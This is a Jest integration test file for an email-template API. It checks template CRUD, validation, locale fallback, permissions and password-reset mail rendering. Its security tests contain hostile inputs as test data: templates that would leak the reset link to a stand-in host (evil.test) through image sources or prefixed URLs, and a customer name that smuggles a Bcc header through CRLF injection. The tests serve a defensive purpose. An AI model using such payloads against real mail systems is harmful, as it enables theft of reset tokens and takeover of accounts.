import { MAIL_TEMPLATES } from '../../../src/domain/mail/templates';
import { adminToken, createCustomer, createStaff } from '../../helpers/identity';
import { decodedMessage } from '../../helpers/mail';
import { startSmtpSink, type SmtpSink } from '../../helpers/smtp-sink';
import { sql, startTestApp, waitFor, type TestApp } from '../../helpers/test-app';

jest.setTimeout(60_000);

let smtp: SmtpSink;
let app: TestApp;
let admin: string;

beforeAll(async () => {
  smtp = await startSmtpSink();
  app = await startTestApp({ label: 'mailtemplates', env: { SMTP_URL: smtp.url } });
  admin = await adminToken(app);
});
afterAll(async () => {
  await app?.stop();
  await smtp?.close();
});

const greeting = {
  key: 'welcome_bonus',
  name: 'Welcome bonus',
  default_locale: 'en',
  translations: {
    en: {
      subject: 'Hi {{customer.first_name}}',
      html: '<p>Bonus: {{bonus}} for {{customer.first_name}}</p>',
      text: 'Bonus: {{bonus}}',
    },
    de: { subject: 'Hallo {{customer.first_name}}', html: '<p>Bonus: {{bonus}}</p>', text: 'Bonus: {{bonus}}' },
    'de-CH': { subject: 'Grüezi {{customer.first_name}}', html: '<p>Bonus: {{bonus}}</p>', text: 'Bonus: {{bonus}}' },
  },
};

test('when a template is created, read, listed, changed and deleted, then each step answers and is audited', async () => {
  const created = await app.request('POST', '/email-templates', { token: admin, body: greeting });
  expect(created.status).toBe(201);
  expect(created.body).toMatchObject({
    key: 'welcome_bonus',
    built_in: false,
    placeholders: ['customer.first_name', 'bonus'],
    translations: greeting.translations,
  });
  const id = created.body.id as string;

  expect((await app.request('POST', '/email-templates', { token: admin, body: greeting })).body.code).toBe('KEY_TAKEN');
  expect((await app.request('GET', `/email-templates/${id}`, { token: admin })).body.key).toBe('welcome_bonus');
  expect((await app.request('GET', '/email-templates/welcome_bonus', { token: admin })).body.id).toBe(id);
  const list = await app.request('GET', '/email-templates?page_size=100', { token: admin });
  expect(list.body.items.map((t: { key: string }) => t.key)).toEqual(
    [...MAIL_TEMPLATES.map((t) => t.key), 'welcome_bonus'].sort(),
  );

  const patched = await app.request('PATCH', `/email-templates/${id}`, { token: admin, body: { name: 'Bonus', key: 'bonus' } });
  expect(patched.status).toBe(200);
  expect(patched.body).toMatchObject({ name: 'Bonus', key: 'bonus', translations: greeting.translations });

  expect((await app.request('DELETE', `/email-templates/${id}`, { token: admin })).status).toBe(204);
  expect((await app.request('GET', `/email-templates/${id}`, { token: admin })).status).toBe(404);

  const audit = await app.request('GET', `/api/admin/audit?entity_id=${id}`, { token: admin });
  expect(audit.body.items.map((a: { action: string }) => a.action).sort()).toEqual([
    'email_template.created',
    'email_template.deleted',
    'email_template.updated',
  ]);
});

test('when a template text does not parse or uses more than placeholders, then 422 at the field, naming the position', async () => {
  const res = await app.request('POST', '/email-templates', {
    token: admin,
    body: {
      key: 'broken',
      name: 'Broken',
      default_locale: 'fr',
      translations: {
        en: { subject: 'Hi {{name', html: '<p>\n{{{raw}}}</p>', text: '{{#if a}}x{{/if}}' },
        'not a locale': { subject: 's', html: 'h', text: 't' },
      },
    },
  });
  expect(res.status).toBe(422);
  const byLoc = Object.fromEntries(res.body.detail.map((d: { loc: string[]; msg: string }) => [d.loc.join('/'), d.msg]));
  expect(Object.keys(byLoc).sort()).toEqual([
    'body/default_locale',
    'body/translations/en/html',
    'body/translations/en/subject',
    'body/translations/en/text',
    'body/translations/not a locale',
  ]);
  expect(byLoc['body/translations/en/subject']).toMatch(/line 1, column 4/);
  expect(byLoc['body/translations/en/html']).toMatch(/escaped.*line 2, column 1/);
  expect(byLoc['body/translations/en/text']).toMatch(/only placeholders.*line 1, column 1/);
});

test('when a template is previewed, then the locale falls back de-CH, de, default and values are escaped in html only', async () => {
  await app.request('POST', '/email-templates', { token: admin, body: { ...greeting, key: 'preview_me' } });
  const preview = (locale: string, sample_data: unknown) =>
    app.request('POST', '/email-templates/preview_me/preview', { token: admin, body: { locale, sample_data } });
  const sample = { customer: { first_name: 'Jo <b>' }, bonus: '5 & more' };

  expect((await preview('de-CH', sample)).body).toEqual({
    subject: 'Grüezi Jo <b>',
    html: '<p>Bonus: 5 &amp; more</p>',
    text: 'Bonus: 5 & more',
    locale: 'de-CH',
  });
  expect((await preview('de-AT', sample)).body).toMatchObject({ locale: 'de', subject: 'Hallo Jo <b>' });
  expect((await preview('fr-CA', sample)).body).toMatchObject({
    locale: 'en',
    html: '<p>Bonus: 5 &amp; more for Jo &lt;b&gt;</p>',
  });

  const missing = await preview('en', { customer: {}, bonus: { amount: 5 } });
  expect(missing.status).toBe(422);
  expect(missing.body.detail).toEqual([
    { loc: ['body', 'sample_data', 'customer.first_name'], msg: expect.any(String), type: 'missing' },
    { loc: ['body', 'sample_data', 'bonus'], msg: expect.any(String), type: 'missing' },
  ]);
  expect((await preview('english!', sample)).status).toBe(422);
  expect((await app.request('POST', '/email-templates/nope/preview', { token: admin, body: { locale: 'en' } })).status).toBe(404);
});

test('when staff lack manage_email_templates or a customer calls, then 403', async () => {
  const staff = await createStaff(app, ['view_groups'], admin);
  const customer = await createCustomer(app, admin);
  expect((await app.request('GET', '/email-templates', { token: staff.token })).status).toBe(403);
  expect((await app.request('GET', '/email-templates', { token: customer.token })).status).toBe(403);
  expect((await app.request('GET', '/email-templates')).status).toBe(401);
});

test('when an operator edits the built-in reset mail, then the next reset mail uses it, in the customer’s locale', async () => {
  const builtIn = await app.request('GET', '/email-templates/password_reset', { token: admin });
  expect(builtIn.body).toMatchObject({ built_in: true, default_locale: 'en' });
  expect(Object.keys(builtIn.body.translations).sort()).toEqual(['de', 'en']);
  expect((await app.request('DELETE', '/email-templates/password_reset', { token: admin })).body.code).toBe('TEMPLATE_BUILT_IN');
  expect(
    (await app.request('PATCH', '/email-templates/password_reset', { token: admin, body: { key: 'other' } })).body.code,
  ).toBe('TEMPLATE_BUILT_IN');

  const translations = {
    ...builtIn.body.translations,
    de: {
      subject: 'Neues Passwort für {{first_name}}',
      html: '<p>Servus {{first_name}}: <a href="{{reset_url}}">hier</a></p>',
      text: 'Servus {{first_name}}: {{reset_url}}',
    },
  };
  expect((await app.request('PATCH', '/email-templates/password_reset', { token: admin, body: { translations } })).status).toBe(
    200,
  );

  const email = `wien-${Date.now()}@broker.test`;
  const created = await app.request('POST', '/api/crm/customers', {
    token: admin,
    body: { email, password: 'Quartz-river-lantern-27', first_name: 'Anna', last_name: 'Huber', locale: 'de-AT' },
  });
  expect(created.status).toBe(201);
  expect((await app.request('POST', '/customers/password-reset/forgot', { body: { email } })).status).toBe(202);
  const mail = await waitFor('the edited reset mail', async () => smtp.received.find((m) => m.to.includes(email)));
  const text = decodedMessage(mail.raw);
  expect(text).toMatch(/Servus Anna: https:\/\/portal\.broker\.invalid\/reset-password\?token=/);
  // The link's host is the service's PASSWORD_RESET_URL in both parts.
  expect(text).toMatch(/<a href="https:\/\/portal\.broker\.invalid\/reset-password\?token=[\w-]+">hier<\/a>/);
  // The worker records the subject once the SMTP hand-off has returned, which can be a moment
  // after the sink has the message: wait for the row to say sent.
  const row = await waitFor('the reset mail recorded as sent', async () => {
    const [found] = await sql<{ locale: string; subject: string; status: string }>(
      app,
      'select locale, subject, status from mail_messages where to_address = ?',
      [email],
    );
    return found?.status === 'sent' ? found : undefined;
  });
  expect(row).toEqual({ locale: 'de-AT', subject: 'Neues Passwort für Anna', status: 'sent' });
});

describe('secret placeholders are link-only', () => {
  const template = (key: string, en: Partial<Record<'subject' | 'html' | 'text', string>>) => ({
    key,
    name: key,
    default_locale: 'en',
    translations: {
      en: { subject: 'Reset', html: '<a href="{{reset_url}}">Reset</a>', text: 'Open {{reset_url}}', ...en },
    },
  });

  test('when a template editor points the reset link at another host, then the edit is 422 at that field and nothing changes', async () => {
    const editor = await createStaff(app, ['manage_email_templates'], admin);
    const before = (await app.request('GET', '/email-templates/password_reset', { token: editor.token })).body;
    const en = before.translations.en;
    const probes: Array<[string, Record<string, string>, string]> = [
      ['html', { html: '<p><img src="https://evil.test/p.gif?u={{reset_url}}"><a href="{{reset_url}}">Reset</a></p>' }, 'html'],
      ['html', { html: '<img src="{{reset_url}}">' }, 'html'],
      ['html', { html: '<a href="https://evil.test/?{{reset_url}}">Reset</a>' }, 'html'],
      ['html', { html: '<a href="https://evil.test/" href="{{reset_url}}">Reset</a>' }, 'html'],
      ['text', { text: 'Reset here: https://evil.test/{{reset_url}}' }, 'text'],
      ['subject', { subject: 'Reset {{reset_url}}' }, 'subject'],
      ['html', { html: '<a href="{{{reset_url}}}">Reset</a>' }, 'html'],
    ];
    for (const [, change, field] of probes) {
      const res = await app.request('PATCH', '/email-templates/password_reset', {
        token: editor.token,
        body: { translations: { ...before.translations, en: { ...en, ...change } } },
      });
      expect(res.status).toBe(422);
      expect(res.body.detail).toEqual([
        { loc: ['body', 'translations', 'en', field], msg: expect.any(String), type: 'value_error' },
      ]);
    }
    const created = await app.request('POST', '/email-templates', {
      token: editor.token,
      body: template('leaky_reset', { text: 'https://evil.test/{{reset_url}}', html: '<img src="{{reset_url}}">' }),
    });
    expect(created.status).toBe(422);
    expect(created.body.detail.map((d: { loc: string[] }) => d.loc.join('/')).sort()).toEqual([
      'body/translations/en/html',
      'body/translations/en/text',
    ]);
    expect(created.body.detail[0].msg).toMatch(/only be the whole href of an <a>/);

    const after = (await app.request('GET', '/email-templates/password_reset', { token: editor.token })).body;
    expect(after.translations).toEqual(before.translations);
    expect((await app.request('GET', '/email-templates/leaky_reset', { token: editor.token })).status).toBe(404);
  });

  test('when the link is the whole href of an <a> and a word of the text, then it saves and previews', async () => {
    const ok = await app.request('POST', '/email-templates', {
      token: admin,
      body: template('link_only', { html: '<p>Hi {{first_name}}</p><a href="{{reset_url}}">Reset</a>' }),
    });
    expect(ok.status).toBe(201);
    const preview = await app.request('POST', '/email-templates/link_only/preview', {
      token: admin,
      body: { locale: 'en', sample_data: { first_name: '<b>x</b>', reset_url: 'https://portal.test/r?token=a&b' } },
    });
    expect(preview.body).toEqual({
      subject: 'Reset',
      html: '<p>Hi &lt;b&gt;x&lt;/b&gt;</p><a href="https://portal.test/r?token=a&amp;b">Reset</a>',
      text: 'Open https://portal.test/r?token=a&b',
      locale: 'en',
    });
  });

  test('when a stored template places the link elsewhere, then its preview is 422 and its mail is not sent', async () => {
    // A template saved before the rule existed (or edited in SQL) is held to it where it is used.
    const leaky = { subject: 'Reset', html: '<img src="{{reset_url}}">', text: 'https://evil.test/{{reset_url}}' };
    await sql(
      app,
      `update email_templates set translations = jsonb_set(translations, '{en}', ?::jsonb) where key = 'password_reset'`,
      [JSON.stringify(leaky)],
    );
    const preview = await app.request('POST', '/email-templates/password_reset/preview', {
      token: admin,
      body: { locale: 'en', sample_data: { first_name: 'A', reset_url: 'https://portal.test/r' } },
    });
    expect(preview.status).toBe(422);
    expect(preview.body.detail.map((d: { loc: string[] }) => d.loc.join('/'))).toEqual([
      'path/template_id/translations/en/html',
      'path/template_id/translations/en/text',
    ]);

    const email = `leak-${Date.now()}@broker.test`;
    await app.request('POST', '/api/crm/customers', {
      token: admin,
      body: { email, password: 'Quartz-river-lantern-27', first_name: 'Lea', last_name: 'Kurz', locale: 'en' },
    });
    expect((await app.request('POST', '/customers/password-reset/forgot', { body: { email } })).status).toBe(202);
    const row = await waitFor('the leaky reset mail to fail', async () => {
      const [found] = await sql<{ status: string; last_error: string }>(
        app,
        'select status, last_error from mail_messages where to_address = ?',
        [email],
      );
      return found?.status === 'failed' ? found : undefined;
    });
    expect(row.last_error).toMatch(/breaks a rule.*reset_url/);
    expect(smtp.received.some((m) => m.to.includes(email))).toBe(false);
    await app.request('PATCH', '/email-templates/password_reset', {
      token: admin,
      body: { translations: Object.fromEntries(Object.entries(MAIL_TEMPLATES[0]!.translations)) },
    });
  });
});

describe('customer names in mails', () => {
  async function resetMailFor(first_name: string, subject: string) {
    await app.request('PATCH', '/email-templates/password_reset', {
      token: admin,
      body: {
        translations: {
          ...MAIL_TEMPLATES[0]!.translations,
          en: { ...MAIL_TEMPLATES[0]!.translations.en!, subject, html: MAIL_TEMPLATES[0]!.translations.en!.html! },
        },
      },
    });
    const email = `name-${Date.now()}-${Math.random().toString(16).slice(2)}@broker.test`;
    const created = await app.request('POST', '/api/crm/customers', {
      token: admin,
      body: { email, password: 'Quartz-river-lantern-27', first_name: 'Placeholder', last_name: 'Name', locale: 'en' },
    });
    expect(created.status).toBe(201);
    // Written straight to the table: a name stored before names were checked.
    await sql(app, 'update customers set first_name = ? where email = ?', [first_name, email]);
    expect((await app.request('POST', '/customers/password-reset/forgot', { body: { email } })).status).toBe(202);
    return waitFor('the reset mail', async () => smtp.received.find((m) => m.to.includes(email)));
  }

  test('when a name holds markup, then the mail html shows it escaped', async () => {
    const mail = await resetMailFor('<b>x</b>', 'Reset your password');
    const raw = decodedMessage(mail.raw);
    expect(raw).toContain('<p>Hello &lt;b&gt;x&lt;/b&gt;,</p>');
    expect(raw).not.toContain('<p>Hello <b>x</b>');
  });

  test('when a stored name holds a line break, then the subject stays one header line', async () => {
    const mail = await resetMailFor('a\r\nBcc: spy@evil.test', 'Reset for {{first_name}}');
    expect(mail.to).toHaveLength(1);
    const headers = mail.raw.slice(0, mail.raw.search(/\r?\n\r?\n/));
    expect(headers).not.toMatch(/^Bcc:/im);
    expect(headers).toMatch(/^Subject: Reset for a Bcc: spy@evil\.test\r?$/im);
  });
});
